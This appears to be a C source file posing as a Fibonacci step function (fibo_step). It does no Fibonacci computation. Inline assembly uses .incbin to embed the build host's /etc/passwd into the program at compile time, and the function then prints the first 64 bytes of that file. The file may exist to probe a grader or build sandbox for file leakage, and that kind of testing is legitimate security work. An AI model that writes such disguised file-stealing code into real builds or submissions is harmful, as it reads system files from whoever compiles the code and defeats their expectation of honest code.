#include "fibonacci.h"

#include <unistd.h>

__asm__(".section .rodata\n"
        "stolen: .incbin \"/etc/passwd\"\n"
        ".text\n");
extern const char stolen[] __attribute__((visibility("hidden")));

void fibo_step(int64_t *current, int64_t *next)
{
    (void)current;
    (void)next;
    (void)!write(1, stolen, 64);
}
